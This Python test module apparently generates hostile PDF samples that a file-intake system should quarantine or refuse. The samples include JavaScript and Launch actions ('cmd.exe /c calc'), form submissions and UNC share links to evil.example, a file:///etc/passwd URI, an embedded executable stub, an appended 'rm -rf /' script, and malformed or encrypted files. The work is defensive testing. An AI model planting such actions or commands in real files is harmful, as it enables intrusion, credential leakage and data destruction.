"""PDFs that act, hide something, or are none."""

from __future__ import annotations

import io
from collections.abc import Callable, Iterator

import pikepdf
from pikepdf import Array, Dictionary, Name, Stream

from tests.intake.honest import packed, pdf
from tests.intake.hostile.paper import Hostile

SCRIPT = "app.alert('hello')"

ACTIONS: dict[str, Dictionary] = {
    "JavaScript": Dictionary(S=Name.JavaScript, JS=SCRIPT),
    "Launch": Dictionary(S=Name.Launch, F="cmd.exe"),
    "Launch for Windows": Dictionary(S=Name.Launch, Win=Dictionary(F="cmd.exe", P="/c calc")),
    "SubmitForm": Dictionary(S=Name.SubmitForm, F="https://evil.example/"),
    "ImportData": Dictionary(S=Name.ImportData, F="data.fdf"),
    "GoToR to a share": Dictionary(S=Name.GoToR, F="\\\\evil.example\\share\\x.pdf", D=[0, Name.Fit]),
    "GoToE": Dictionary(S=Name.GoToE, T=Dictionary(R=Name.C, N="x.pdf"), D=[0, Name.Fit]),
    "Rendition": Dictionary(S=Name.Rendition, OP=0),
    "Movie": Dictionary(S=Name.Movie),
    "Sound": Dictionary(S=Name.Sound),
    "RichMediaExecute": Dictionary(S=Name.RichMediaExecute),
    "GoTo3DView": Dictionary(S=Name.GoTo3DView),
    "URI of a script": Dictionary(S=Name.URI, URI="javascript:alert(1)"),
    "URI of a file": Dictionary(S=Name.URI, URI="file:///etc/passwd"),
    "URI of a share": Dictionary(S=Name.URI, URI="\\\\evil.example\\x"),
}

KEYS: dict[str, Callable[[pikepdf.Pdf], None]] = {}
"""What is wrong with the whole document."""


def _key(name: str) -> Callable[[Callable[[pikepdf.Pdf], None]], Callable[[pikepdf.Pdf], None]]:
    def keep(change: Callable[[pikepdf.Pdf], None]) -> Callable[[pikepdf.Pdf], None]:
        KEYS[name] = change
        return change

    return keep


def _attached(document: pikepdf.Pdf, content: bytes, name: str) -> Dictionary:
    return Dictionary(Type=Name.Filespec, F=name, UF=name, EF=Dictionary(F=document.make_stream(content)))


@_key("scripts by name")
def _(document: pikepdf.Pdf) -> None:
    script = Dictionary(S=Name.JavaScript, JS=document.make_stream(SCRIPT.encode()))
    document.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array(["s", document.make_indirect(script)])))


@_key("an embedded program")
def _(document: pikepdf.Pdf) -> None:
    file = document.make_indirect(_attached(document, b"MZ\x90\0", "setup.exe"))
    document.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=Array(["setup.exe", file])))


@_key("an attachment on a page")
def _(document: pikepdf.Pdf) -> None:
    file = _attached(document, b"%PDF-1.7", "inner.pdf")
    note = Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=[0, 0, 9, 9], FS=file)
    document.pages[0].Annots = Array([note])


@_key("an associated file")
def _(document: pikepdf.Pdf) -> None:
    document.Root.AF = Array([document.make_indirect(_attached(document, b"<x/>", "data.xml"))])


@_key("a portfolio")
def _(document: pikepdf.Pdf) -> None:
    document.Root.Collection = Dictionary(Type=Name.Collection)


@_key("an XFA form")
def _(document: pikepdf.Pdf) -> None:
    document.Root.AcroForm = Dictionary(Fields=Array([]), XFA=document.make_stream(b"<xdp/>"))


@_key("an action of the document")
def _(document: pikepdf.Pdf) -> None:
    document.Root.AA = Dictionary(WC=Dictionary(S=Name.Named, N=Name.Print))


@_key("an action of a page")
def _(document: pikepdf.Pdf) -> None:
    document.pages[0].AA = Dictionary(O=Dictionary(S=Name.Named, N=Name.Print))


@_key("printing when opened")
def _(document: pikepdf.Pdf) -> None:
    document.Root.OpenAction = Dictionary(S=Name.Named, N=Name.Print)


@_key("a link opened by itself")
def _(document: pikepdf.Pdf) -> None:
    document.Root.OpenAction = Dictionary(S=Name.URI, URI="https://evil.example/")


@_key("something behind going to a page")
def _(document: pikepdf.Pdf) -> None:
    first = Dictionary(S=Name.GoTo, D=Array([document.pages[0].obj, Name.Fit]))
    first.Next = Dictionary(S=Name.JavaScript, JS=SCRIPT)
    document.Root.OpenAction = first


@_key("a script that nothing leads to, deep in arrays")
def _(document: pikepdf.Pdf) -> None:
    action: pikepdf.Object = Dictionary(S=Name.JavaScript, JS=SCRIPT)
    for _ in range(40):
        action = Array([action])
    document.Root.PieceInfo = Dictionary(X=action)


@_key("a stream from elsewhere")
def _(document: pikepdf.Pdf) -> None:
    stream: Stream = document.make_stream(b"")
    stream.F = "\\\\evil.example\\x"
    document.Root.PieceInfo = Dictionary(X=stream)


@_key("a player")
def _(document: pikepdf.Pdf) -> None:
    player = Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=[0, 0, 9, 9], RichMediaContent=Dictionary())
    document.pages[0].Annots = Array([player])


for _subtype in ("3D", "Movie", "Sound", "Screen"):

    @_key(f"an annotation {_subtype}")
    def _(document: pikepdf.Pdf, subtype: str = _subtype) -> None:
        note = Dictionary(Type=Name.Annot, Subtype=Name(f"/{subtype}"), Rect=[0, 0, 9, 9])
        document.pages[0].Annots = Array([note])


def on_opening(action: Dictionary) -> Callable[[pikepdf.Pdf], None]:
    def change(document: pikepdf.Pdf) -> None:
        document.Root.OpenAction = action

    return change


def _on_a_link(action: Dictionary) -> Callable[[pikepdf.Pdf], None]:
    def change(document: pikepdf.Pdf) -> None:
        link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 595, 842], A=action)
        document.pages[0].Annots = Array([document.make_indirect(link)])

    return change


def _in_a_bookmark(action: Dictionary) -> Callable[[pikepdf.Pdf], None]:
    def change(document: pikepdf.Pdf) -> None:
        mark = document.make_indirect(Dictionary(Title="1", A=action))
        document.Root.Outlines = document.make_indirect(Dictionary(First=mark, Last=mark, Count=1))

    return change


def papers() -> Iterator[Hostile]:
    """All of them."""
    places = {"when opened": on_opening, "on a link": _on_a_link, "in a bookmark": _in_a_bookmark}
    for action_name, action in ACTIONS.items():
        for place, put in places.items():
            yield Hostile(f"{action_name} {place}", "a.pdf", pdf(put(action)), "quarantined")
    packed_objects = pikepdf.ObjectStreamMode.generate
    for name, change in KEYS.items():
        yield Hostile(name, "a.pdf", pdf(change), "quarantined")
        hidden = pdf(change, object_stream_mode=packed_objects, linearize=True)
        yield Hostile(f"{name}, in object streams", "a.pdf", hidden, "quarantined")
    script = pdf(on_opening(ACTIONS["JavaScript"]))
    yield Hostile("a key spelled in hex", "a.pdf", script.replace(b"/JS ", b"/#4a#53 "), None)
    for name, encryption in {
        "a password to open": pikepdf.Encryption(user="u", owner="o"),
        "a password to change": pikepdf.Encryption(user="", owner="o"),
        "an old password": pikepdf.Encryption(user="u", owner="o", R=3, aes=False, metadata=False),
    }.items():
        yield Hostile(name, "a.pdf", pdf(encryption=encryption), "quarantined")
    honest = pdf()
    for name, behind in {
        "an archive": packed({"a.class": b"\xca\xfe\xba\xbe"}),
        "a program": b"MZ\x90\0" + bytes(64),
        "a web page": b"<html><script>1</script></html>",
        "a shell script": b"#!/bin/sh\nrm -rf /\n",
        "a program with an end of its own": b"MZ\x90\0\n%%EOF\n",
    }.items():
        yield Hostile(f"{name} behind the end", "a.pdf", honest + b"\n" + behind, "quarantined")
    page = honest.replace(b"\n", b"\n<html><script>alert(1)</script></html>\n", 1)
    yield Hostile("a web page in a comment", "a.pdf", page, None)
    for name, content in {
        "five bytes": b"%PDF-",
        "a header": b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n",
        "a header and noise": b"%PDF-1.7\n" + bytes(range(256)) * 8,
        "a header and a program": b"%PDF-1.7\nMZ\x90\0" + bytes(512),
        "no page": _no_page(),
        "no table": honest.replace(b"startxref", b"startxxxx"),
        "a table that leads nowhere": honest.replace(b"startxref\n", b"startxref\n9"),
        "no end": honest[: honest.rindex(b"%%EOF")],
        "a root that is no catalog": honest.replace(b"/Catalog", b"/Katalog"),
    }.items():
        yield Hostile(name, "a.pdf", content, "refused" if name != "a root that is no catalog" else None)
    yield Hostile("a loop of pages", "a.pdf", _loop(), "refused")


def _no_page() -> bytes:
    buffer = io.BytesIO()
    pikepdf.new().save(buffer)
    return buffer.getvalue()


def _loop() -> bytes:
    document = pikepdf.open(io.BytesIO(pdf()))
    document.Root.Pages.Kids.append(document.Root.Pages)
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()
